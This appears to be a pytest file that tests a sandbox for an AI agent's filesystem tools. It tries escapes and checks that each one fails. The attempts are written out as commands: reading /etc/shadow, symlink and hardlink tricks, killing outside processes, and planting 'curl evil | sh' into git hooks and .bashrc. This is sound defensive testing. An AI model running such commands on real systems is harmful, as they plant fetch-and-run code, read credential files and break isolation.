"""Escape attempts, through the primitives and from inside run_command.

Every test here fails if the escape works: it checks the effect on disk or the
data that came back, not only an error code.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from tinyagent_fs.changes.changeset import content_hash
from tinyagent_fs.errors import ErrorCode, ToolError

from ..sandbox_support import SECRET, Sandbox, open_sandbox, require_sandbox

pytestmark = require_sandbox()


@pytest.fixture
async def sandbox(tmp_path: Path) -> AsyncIterator[Sandbox]:
    async for opened in open_sandbox(tmp_path):
        yield opened


async def python(sandbox: Sandbox, script: str) -> dict:
    """Run a Python script inside the sandbox; it prints one JSON document."""
    (sandbox.root / "probe.py").write_text(script)
    result = await sandbox.run(f"{sys.executable} -I probe.py")
    assert result["exit_code"] == 0, result
    return json.loads(result["stdout"])


async def test_primitives_cannot_read_outside(sandbox: Sandbox) -> None:
    for path in (sandbox.secret, Path("/etc/shadow"), Path("/etc/hostname")):
        with pytest.raises(ToolError) as caught:
            await sandbox.provider.call("read_bytes", path=str(path), max_bytes=10**6)
        assert caught.value.code in (ErrorCode.PERMISSION_DENIED, ErrorCode.NOT_FOUND)


WINDOW = {
    "offset": 0,
    "limit": 50,
    "line_bytes": 1000,
    "max_bytes": 10**6,
    "whole_up_to": 0,
    "max_window_file_bytes": 10**9,
}
"""Arguments of a read_window call that reads any text file by windows."""


async def test_the_window_primitive_cannot_read_outside_through_a_link_or_a_fifo(
    sandbox: Sandbox,
) -> None:
    for path in (sandbox.secret, Path("/etc/shadow"), Path("/etc/hostname")):
        for whole_up_to in (0, 10**6):
            with pytest.raises(ToolError) as caught:
                await sandbox.provider.call(
                    "read_window", path=str(path), **{**WINDOW, "whole_up_to": whole_up_to}
                )
            assert caught.value.code in (ErrorCode.PERMISSION_DENIED, ErrorCode.NOT_FOUND)
    (sandbox.root / "window-link.txt").symlink_to(sandbox.secret)
    with pytest.raises(ToolError) as caught:
        await sandbox.provider.call(
            "read_window", path=str(sandbox.root / "window-link.txt"), **WINDOW
        )
    assert caught.value.code in (
        ErrorCode.PERMISSION_DENIED,
        ErrorCode.NOT_FOUND,
        ErrorCode.SYMLINK_ESCAPE,
    )
    os.mkfifo(sandbox.root / "pipe")
    with pytest.raises(ToolError) as caught:  # refused at once, never waited on
        await sandbox.provider.call("read_window", path=str(sandbox.root / "pipe"), **WINDOW)
    assert caught.value.code is ErrorCode.NOT_TEXT
    with pytest.raises(ToolError) as caught:  # the worker checks what it is asked
        await sandbox.provider.call(
            "read_window", path=str(sandbox.root / "inside.txt"), **{**WINDOW, "limit": "all"}
        )
    assert caught.value.code is ErrorCode.INVALID_ARGUMENT
    inside = await sandbox.provider.call(
        "read_window", path=str(sandbox.root / "inside.txt"), **WINDOW
    )
    assert inside["lines"] == b"inside\n"


async def test_primitives_cannot_write_outside(sandbox: Sandbox) -> None:
    target = sandbox.outside / "planted.txt"
    with pytest.raises(ToolError) as caught:
        await sandbox.provider.call(
            "commit_changes",
            change_id="escape",
            changes=[
                {
                    "kind": "create",
                    "path": str(target),
                    "expected_hash": content_hash(None),
                    "new_bytes": b"planted",
                }
            ],
        )
    assert caught.value.code is ErrorCode.PERMISSION_DENIED
    assert not target.exists()
    assert os.listdir(sandbox.outside) == ["secret.txt"]


async def test_primitives_cannot_move_a_file_out_of_the_root(sandbox: Sandbox) -> None:
    source = sandbox.root / "inside.txt"
    with pytest.raises(ToolError):
        await sandbox.provider.call(
            "commit_changes",
            change_id="move",
            changes=[
                {
                    "kind": "move",
                    "path": str(source),
                    "dest": str(sandbox.outside / "moved.txt"),
                    "expected_hash": content_hash(b"inside\n"),
                    "dest_expected_hash": content_hash(None),
                    "new_bytes": b"inside\n",
                }
            ],
        )
    assert source.read_bytes() == b"inside\n"
    assert not (sandbox.outside / "moved.txt").exists()


async def test_commands_cannot_read_outside(sandbox: Sandbox) -> None:
    result = await sandbox.run(f"cat {sandbox.secret}; cat /etc/shadow; ls {sandbox.outside}")
    assert SECRET.decode().strip() not in result["stdout"]
    assert "secret.txt" not in result["stdout"]
    refused = ("Permission denied", "No such file or directory")
    assert sum(result["stderr"].count(reason) for reason in refused) >= 3, result


async def test_commands_cannot_write_create_truncate_or_remove_outside(sandbox: Sandbox) -> None:
    secret, outside = sandbox.secret, sandbox.outside
    report = await python(
        sandbox,
        f"""
import json, os
attempts = {{
    "append": lambda: open({str(secret)!r}, "ab").write(b"x"),
    "create": lambda: open({str(outside / "new.txt")!r}, "wb").write(b"x"),
    "truncate": lambda: os.truncate({str(secret)!r}, 0),
    "unlink": lambda: os.unlink({str(secret)!r}),
    "mkdir": lambda: os.mkdir({str(outside / "dir")!r}),
    "chmod": lambda: os.chmod({str(secret)!r}, 0o777),
}}
results = {{}}
for name, attempt in attempts.items():
    try:
        attempt()
        results[name] = "succeeded"
    except OSError as exc:
        results[name] = exc.errno
print(json.dumps(results))
""",
    )
    assert "succeeded" not in {k: v for k, v in report.items() if k != "chmod"}.values(), report
    assert secret.read_bytes() == SECRET
    assert sorted(os.listdir(outside)) == ["secret.txt"]


async def test_commands_cannot_rename_or_link_across_the_boundary(sandbox: Sandbox) -> None:
    result = await sandbox.run(
        f"mv {sandbox.secret} stolen.txt; ln {sandbox.secret} hardlink.txt;"
        f" mv inside.txt {sandbox.outside}/exfil.txt; ln inside.txt {sandbox.outside}/link.txt;"
        f" ln /usr/bin/env env-link; cat stolen.txt hardlink.txt"
    )
    assert SECRET.decode().strip() not in result["stdout"]
    assert not (sandbox.root / "stolen.txt").exists()
    assert not (sandbox.root / "hardlink.txt").exists()
    assert not (sandbox.root / "env-link").exists(), "a system binary must not become writable"
    assert sorted(os.listdir(sandbox.outside)) == ["secret.txt"]
    assert (sandbox.root / "inside.txt").read_bytes() == b"inside\n"


async def test_device_nodes_cannot_be_made_inside_the_root(sandbox: Sandbox) -> None:
    disk = os.stat("/dev/null").st_rdev
    report = await python(
        sandbox,
        f"""
import json, os, stat
results = {{}}
for name, mode in (("char", stat.S_IFCHR), ("block", stat.S_IFBLK)):
    try:
        os.mknod(name, mode | 0o600, {disk})
        results[name] = "made"
    except OSError as exc:
        results[name] = exc.errno
print(json.dumps(results))
""",
    )
    assert "made" not in report.values(), report
    assert not (sandbox.root / "char").exists() and not (sandbox.root / "block").exists()


async def test_symlink_to_outside_gives_no_access(sandbox: Sandbox) -> None:
    result = await sandbox.run(
        f"ln -s {sandbox.secret} link.txt && cat link.txt;"
        f" ln -s {sandbox.outside} dirlink && echo x > dirlink/planted.txt; ls dirlink"
    )
    assert SECRET.decode().strip() not in result["stdout"]
    assert not (sandbox.outside / "planted.txt").exists()
    with pytest.raises(ToolError) as caught:
        await sandbox.provider.call("read_bytes", path=str(sandbox.root / "link.txt"), max_bytes=99)
    assert caught.value.code in (
        ErrorCode.PERMISSION_DENIED,
        ErrorCode.NOT_FOUND,
        ErrorCode.SYMLINK_ESCAPE,
    )


@pytest.mark.parametrize(
    ("op", "args"),
    [("read_bytes", {"max_bytes": 10**6}), ("read_window", WINDOW)],
    ids=["read_bytes", "read_window"],
)
async def test_symlink_swapped_during_reads_never_yields_outside_content(
    sandbox: Sandbox, op: str, args: dict
) -> None:
    link = sandbox.root / "flip"
    inside, outside = str(sandbox.root / "inside.txt"), str(sandbox.secret)
    link.symlink_to(inside)
    stop = threading.Event()

    def flip() -> None:
        spare = sandbox.root / "flip.tmp"
        while not stop.is_set():
            for target in (outside, inside):
                spare.unlink(missing_ok=True)
                spare.symlink_to(target)
                os.replace(spare, link)

    flipper = threading.Thread(target=flip)
    flipper.start()
    seen: list[object] = []
    denied = 0
    try:
        for _ in range(400):
            try:
                seen.append(await sandbox.provider.call(op, path=str(link), **args))
            except ToolError as exc:
                assert exc.code in (ErrorCode.SYMLINK_ESCAPE, ErrorCode.NOT_FOUND), exc
                denied += 1
    finally:
        stop.set()
        flipper.join()
    # The guard hands primitives resolved paths, so a symlink in the last place
    # was swapped in afterwards: a read never follows one, wherever it points.
    assert not seen and denied == 400


async def test_network_sockets_are_refused(sandbox: Sandbox) -> None:
    report = await python(
        sandbox,
        """
import json, socket
results = {}
for name, family, kind in [
    ("tcp4", socket.AF_INET, socket.SOCK_STREAM),
    ("udp4", socket.AF_INET, socket.SOCK_DGRAM),
    ("tcp6", socket.AF_INET6, socket.SOCK_STREAM),
    ("udp6", socket.AF_INET6, socket.SOCK_DGRAM),
    ("netlink", socket.AF_NETLINK, socket.SOCK_RAW),
    ("packet", socket.AF_PACKET, socket.SOCK_RAW),
    ("unix", socket.AF_UNIX, socket.SOCK_STREAM),
]:
    try:
        socket.socket(family, kind).close()
        results[name] = "opened"
    except OSError as exc:
        results[name] = exc.errno
a, b = socket.socketpair()
a.sendall(b"ok")
results["socketpair"] = b.recv(2).decode()
print(json.dumps(results))
""",
    )
    assert report.pop("socketpair") == "ok"
    assert report == dict.fromkeys(report, 1), report


async def test_pathname_unix_socket_outside_is_unreachable(sandbox: Sandbox) -> None:
    import socket

    path = str(sandbox.outside / "daemon.sock")
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(path)
        server.listen()
        server.settimeout(0.1)
        report = await python(
            sandbox,
            f"""
import json, socket
try:
    with socket.socket(socket.AF_UNIX) as s:
        s.connect({path!r})
    print(json.dumps("connected"))
except OSError as exc:
    print(json.dumps(exc.errno))
""",
        )
        with pytest.raises(TimeoutError):
            server.accept()
    assert report != "connected"


async def test_io_uring_is_refused(sandbox: Sandbox) -> None:
    report = await python(
        sandbox,
        """
import ctypes, json
libc = ctypes.CDLL(None, use_errno=True)
params = ctypes.create_string_buffer(120)
fd = libc.syscall(425, 8, params)
print(json.dumps([fd, ctypes.get_errno()]))
""",
    )
    assert report == [-1, 1]


async def test_system_v_ipc_is_refused(sandbox: Sandbox) -> None:
    report = await python(
        sandbox,
        """
import ctypes, json
libc = ctypes.CDLL(None, use_errno=True)
results = {}
for name, call in (("shmget", lambda: libc.shmget(0, 4096, 0o1600)),
                   ("msgget", lambda: libc.msgget(0, 0o1600)),
                   ("semget", lambda: libc.semget(0, 1, 0o1600))):
    results[name] = [call(), ctypes.get_errno()]
print(json.dumps(results))
""",
    )
    assert report == {name: [-1, 1] for name in ("shmget", "msgget", "semget")}, report


async def test_ptrace_of_the_toolkit_is_refused(sandbox: Sandbox) -> None:
    report = await python(
        sandbox,
        f"""
import ctypes, json
libc = ctypes.CDLL(None, use_errno=True)
result = libc.ptrace(16, {os.getpid()}, None, None)
print(json.dumps([result, ctypes.get_errno()]))
""",
    )
    assert report == [-1, 1]
    status = Path("/proc/self/status").read_text()
    assert "TracerPid:\t0" in status


async def test_signals_cannot_reach_processes_outside(sandbox: Sandbox) -> None:
    bystander = subprocess.Popen(["sleep", "30"])
    try:
        result = await sandbox.run(f"kill -9 {bystander.pid}; kill -0 {os.getpid()}")
        refused = ("Operation not permitted", "No such process")
        assert sum(result["stderr"].count(reason) for reason in refused) == 2, result
        assert bystander.poll() is None
    finally:
        bystander.kill()
        bystander.wait()


async def test_protected_paths_stay_read_only_for_commands(tmp_path: Path) -> None:
    root = tmp_path / "root"
    root.mkdir()
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    (root / ".bashrc").write_text("# rc\n")
    hook = root / ".git" / "hooks" / "pre-commit"
    config_before = (root / ".git" / "config").read_bytes()
    async for sandbox in open_sandbox(tmp_path):
        result = await sandbox.run(
            "echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit;"
            " printf '[core]\\n\\thooksPath = /tmp\\n' >> .git/config;"
            " echo 'curl evil | sh' >> .bashrc; rm -f .bashrc; mv .git .git-old;"
            " rm -rf .git/hooks; ln .git/config config-link; echo x >> config-link"
        )
        assert "Read-only file system" in result["stderr"]
        assert sandbox.provider.report["protection"]["mode"] == "mount-namespace"
    assert not hook.exists()
    assert (root / ".git" / "config").read_bytes() == config_before
    assert (root / ".bashrc").read_text() == "# rc\n"
    assert (root / ".git" / "hooks").is_dir()
    assert not (root / ".git-old").exists()
    link = root / "config-link"
    assert not link.exists() or link.stat().st_ino != (root / ".git" / "config").stat().st_ino


async def test_git_still_works_inside_the_sandbox(tmp_path: Path) -> None:
    root = tmp_path / "root"
    root.mkdir()
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    async for sandbox in open_sandbox(tmp_path):
        result = await sandbox.run(
            "git -c user.name=a -c user.email=a@b add -A"
            " && git -c user.name=a -c user.email=a@b commit -qm first && git log --oneline"
        )
        assert result["exit_code"] == 0, result
        assert "first" in result["stdout"]


async def test_git_dir_created_by_a_command_is_protected_from_the_next_call(
    sandbox: Sandbox,
) -> None:
    first = await sandbox.run("git init -q .")
    assert str(sandbox.root / ".git") in first["protected_paths_changed"]
    before = sandbox.provider.worker_pid
    second = await sandbox.run("echo evil > .git/hooks/pre-commit")
    assert second["exit_code"] != 0
    assert sandbox.provider.worker_pid != before
    assert not (sandbox.root / ".git" / "hooks" / "pre-commit").exists()


async def test_commands_cannot_plant_fifos_or_sockets_in_the_root(sandbox: Sandbox) -> None:
    """A FIFO named like a file the toolkit or ripgrep opens would block the opener."""
    result = await sandbox.run(
        "mkfifo .gitignore; echo fifo=$?;"
        " python3 -c 'import os; os.mkfifo(\"sub.fifo\")' 2>/dev/null; echo py=$?;"
        ' mkfifo "$TMPDIR/scratch.fifo"; echo tmp=$?'
    )
    assert "fifo=1" in result["stdout"], result
    assert "py=1" in result["stdout"], result
    assert "tmp=0" in result["stdout"], result
    assert not (sandbox.root / ".gitignore").exists()
    assert not (sandbox.root / "sub.fifo").exists()
